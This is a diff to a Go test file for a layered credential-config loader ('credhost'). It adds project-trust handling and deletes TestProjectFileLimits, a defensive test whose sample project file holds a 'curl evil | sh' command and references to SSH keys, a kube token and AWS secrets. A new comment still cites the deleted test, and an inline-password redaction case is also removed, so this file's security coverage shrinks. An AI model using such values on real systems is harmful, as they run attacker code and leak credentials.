@@ -6,6 +6,7 @@ import (
 	"os"
 	"path/filepath"
 	"reflect"
+	"strconv"
 	"strings"
 	"testing"
 )
@@ -29,13 +30,30 @@ type layout struct {
 	system, user, project, work, home string
 }
 
+// newLayout writes the files; the user file trusts the project's
+// directory (see newUntrustedLayout).
 func newLayout(t *testing.T, system, user, project string) layout {
+	t.Helper()
+	return newLayoutTrust(t, system, user, project, true)
+}
+
+// newUntrustedLayout is newLayout with a user file that does not trust
+// the project.
+func newUntrustedLayout(t *testing.T, system, user, project string) layout {
+	t.Helper()
+	return newLayoutTrust(t, system, user, project, false)
+}
+
+func newLayoutTrust(t *testing.T, system, user, project string, trust bool) layout {
 	t.Helper()
 	root := t.TempDir()
 	l := layout{home: filepath.Join(root, "home")}
+	proj := filepath.Join(l.home, "src", "app")
+	if project != "" && trust {
+		user += "\n[projects]\ntrusted = [" + strconv.Quote(proj) + "]\n"
+	}
 	l.system = writeFile(t, filepath.Join(root, "etc", "credhost"), "config.toml", system)
 	l.user = writeFile(t, filepath.Join(l.home, ".config", "credhost"), "config.toml", user)
-	proj := filepath.Join(l.home, "src", "app")
 	if project != "" {
 		l.project = writeFile(t, proj, ProjectFileName, project)
 	}
@@ -81,13 +99,16 @@ federated_token_file = "token.jwt"
 client_id = "22222222-2222-4222-8222-222222222222"
 chain = ["devicecode"]
 `
-	// A project file may choose and describe profiles, but not run
-	// code, add trust roots or reference the user's secrets and files
-	// (TestProjectFileLimits).
-	projectLayer = `[profiles.ci]
+	// A project file may add profiles of its own, with settings that
+	// reach no secret and run no code (TestProjectFileLimits).
+	projectLayer = `[profiles.app]
 remember_winner = false
-[profiles.ci.match]
+client_id = "44444444-4444-4444-8444-444444444444"
+chain = ["devicecode"]
+[profiles.app.match]
 env = { CI = "true" }
+[profiles.app.devicecode]
+login_hint = "dev@contoso.com"
 `
 )
 
@@ -103,13 +124,16 @@ func TestLoadLayers(t *testing.T) {
 	usr := func(line, col int) Origin { return Origin{File: l.user, Line: line, Col: col} }
 	prj := func(line, col int) Origin { return Origin{File: l.project, Line: line, Col: col} }
 	sysDir, usrDir := filepath.Dir(l.system), filepath.Dir(l.user)
-	ci, laptop := f.Profiles["ci"], f.Profiles["laptop"]
+	ci, laptop, app := f.Profiles["ci"], f.Profiles["laptop"], f.Profiles["app"]
 	tests := []struct {
 		name      string
 		got, want any
 	}{
-		{"order: layer then file", f.Order, []string{"ci", "laptop"}},
-		{"layers", f.Layers, []Layer{{LayerSystem, l.system, false}, {LayerUser, l.user, false}, {LayerProject, l.project, false}, {LayerEnv, "AZURE_CLIENT_ID", false}}},
+		{"order: layer then file", f.Order, []string{"ci", "laptop", "app"}},
+		{"defined by", []LayerKind{ci.Layer, laptop.Layer, app.Layer}, []LayerKind{LayerSystem, LayerUser, LayerProject}},
+		{"a project profile takes the system [defaults]", app.Authority.Origin, sys(2, 1)},
+		{"a project profile takes AZURE_CLIENT_ID", app.ClientID.Origin, Origin{Env: EnvClientID}},
+		{"layers", f.Layers, []Layer{{Kind: LayerSystem, Path: l.system}, {Kind: LayerUser, Path: l.user}, {Kind: LayerProject, Path: l.project}, {Kind: LayerEnv, Path: "AZURE_CLIENT_ID"}}},
 		{"authority from system [defaults]", ci.Authority, Value{Raw: "https://login.microsoftonline.com/contoso.onmicrosoft.com", Origin: sys(2, 1)}},
 		{"client_id from env over system", ci.ClientID, Value{Raw: "33333333-3333-4333-8333-333333333333", Origin: Origin{Env: EnvClientID}}},
 		{"chain from system", ci.Chain, []string{"clientcreds"}},
@@ -117,13 +141,13 @@ func TestLoadLayers(t *testing.T) {
 		{"timeout: user over system defaults", ci.TimeoutOrigin, usr(2, 1)},
 		{"laptop timeout from system defaults", laptop.TimeoutOrigin, sys(3, 1)},
 		{"ca_file from system, made absolute against the system file", ci.CAFile, Value{Raw: filepath.Join(sysDir, "sys-ca.pem"), Origin: sys(8, 1)}},
-		{"remember_winner from project", ci.RememberWinner, false},
+		{"remember_winner from project", app.RememberWinner, false},
 		{"flow key: user over system", ci.Flows["clientcreds"]["send_certificate_chain"], Value{Raw: "false", Origin: usr(5, 1)}},
 		{"flow key only in system stays", ci.Flows["clientcreds"]["client_assertion_command"], Value{Raw: "get-assertion", Origin: sys(12, 1)}},
 		{"file: reference resolved against the user file", ci.Flows["clientcreds"]["certificate"], Value{Raw: "file:" + filepath.Join(usrDir, "certs", "app.pem"), Origin: usr(6, 1)}},
 		{"*_file path resolved against the user file", ci.Flows["clientcreds"]["federated_token_file"], Value{Raw: filepath.Join(usrDir, "token.jwt"), Origin: usr(7, 1)}},
 		{"flow section origin: first layer", ci.FlowOrigins["clientcreds"], sys(10, 1)},
-		{"match from project", ci.Match.Rules, []Rule{{Kind: RuleEnv, Name: "CI", Value: "true", Origin: prj(4, 9)}}},
+		{"match from project", app.Match.Rules, []Rule{{Kind: RuleEnv, Name: "CI", Value: "true", Origin: prj(6, 9)}}},
 		{"plugins.dir against the system file", f.Plugins.Dir, Value{Raw: filepath.Join(sysDir, "plugins"), Origin: sys(15, 1)}},
 		{"pins from system", f.Plugins.Pins["clientcreds"].Origin, sys(17, 1)},
 		{"profile origin: first layer", ci.Origin, sys(5, 1)},
@@ -180,11 +204,11 @@ func TestLoadLayersStrict(t *testing.T) {
 			[]string{`SYS:2:1: profiles.ci.chian: unknown key; did you mean "chain"?`}},
 		{"unknown top-level key in the system file says what it takes", "[polcy]\n", "", "",
 			[]string{`SYS:1:1: polcy: unknown key; did you mean "policy"?`}},
-		{"wrong type in the project file", "", "", "[profiles.ci]\ntimeout = 30\n",
-			[]string{`PROJ:2:1: profiles.ci.timeout: expected a string`}},
+		{"wrong type in the project file", "", "", "[profiles.app]\ntimeout = 30\n",
+			[]string{`PROJ:2:1: profiles.app.timeout: expected a string`}},
 		{"syntax error in one layer, unknown key in another", "[profiles.ci\n", "[profiles.ci]\nx = 1\n", "",
 			[]string{"SYS:1:", "invalid TOML", "USER:2:1: profiles.ci.x: unknown key"}},
-		{"missing setting after the merge is placed at the profile", "", "[profiles.ci]\nchain = [\"clientcreds\"]\n", "[profiles.ci]\nauthority = \"https://login.microsoftonline.com/t\"\n",
+		{"missing setting after the merge is placed at the profile", "", "[profiles.ci]\nchain = [\"clientcreds\"]\nauthority = \"https://login.microsoftonline.com/t\"\n", "",
 			[]string{"USER:1:1: profiles.ci.client_id: missing"}},
 		{"contradiction across layers", "[cache]\nkey = \"env:K\"\n", "[cache]\npassphrase = \"env:P\"\n", "",
 			[]string{"USER:2:1: cache.passphrase: set key or passphrase, not both"}},
@@ -325,7 +349,7 @@ func TestEffectiveNeverShowsSecrets(t *testing.T) {
 	l := newLayout(t,
 		sysLayer+"[profiles.ci.devicecode]\nlogin_hint = \"me@contoso.com\"\nsecret_thing = \"sys-"+canary+"\"\n[cache]\nkey = \"key-"+canary+"\"\n",
 		userLayer+"[profiles.laptop.devicecode]\nclient_secret = \"user-"+canary+"\"\nlist_secret = [\""+canary+"\"]\n",
-		projectLayer+"[profiles.ci.iwa]\npassword = \""+canary+"-inline\"\n")
+		projectLayer)
 	o := l.options(map[string]string{"AZURE_CLIENT_SECRET": "env-" + canary})
 	o.Flags = []FlagSetting{{Flag: "--set", TOML: `profiles.ci.clientcreds.client_assertion = "flag-` + canary + `"`}}
 	f, err := LoadLayers(o)
@@ -345,7 +369,6 @@ func TestEffectiveNeverShowsSecrets(t *testing.T) {
 		"profiles.ci.clientcreds.client_assertion":       Redacted,
 		"profiles.ci.devicecode.secret_thing":            Redacted,
 		"profiles.ci.devicecode.login_hint":              "me@contoso.com",
-		"profiles.ci.iwa.password":                       Redacted,
 		"profiles.laptop.devicecode.client_secret":       Redacted,
 		"profiles.laptop.devicecode.list_secret":         Redacted,
 		"cache.key":                                      Redacted,
@@ -366,33 +389,4 @@ func stringOf(v any) string {
 		return strings.Join(v, ",")
 	}
 	return ""
-}
-
-// TestProjectFileLimits: a project file (it may come with a cloned
-// repository) cannot make credhost run code, trust new roots, or send the
-// user's secrets and files to the authority it names.
-func TestProjectFileLimits(t *testing.T) {
-	project := `[plugins]
-dir = "evil-plugins"
-[cache]
-path = "tokens.bin"
-[profiles.ci]
-ca_file = "evil-ca.pem"
-[profiles.ci.clientcreds]
-client_assertion_command = "sh -c 'curl evil | sh'"
-federated_token_file = "/home/me/.kube/token"
-client_secret = "env:AWS_SECRET_ACCESS_KEY"
-certificate = "file:/home/me/.ssh/id_rsa"
-`
-	l := newLayout(t, sysLayer, userLayer, project)
-	_, err := LoadLayers(l.options(nil))
-	if err == nil {
-		t.Fatal("a project file set plugins, cache, ca_file, commands and references")
-	}
-	for _, want := range []string{"plugins.dir", "cache.path", "profiles.ci.ca_file", "clientcreds.client_assertion_command",
-		"clientcreds.federated_token_file", "clientcreds.client_secret", "clientcreds.certificate"} {
-		if !strings.Contains(err.Error(), want) {
-			t.Errorf("error does not name %s:\n%v", want, err)
-		}
-	}
 }
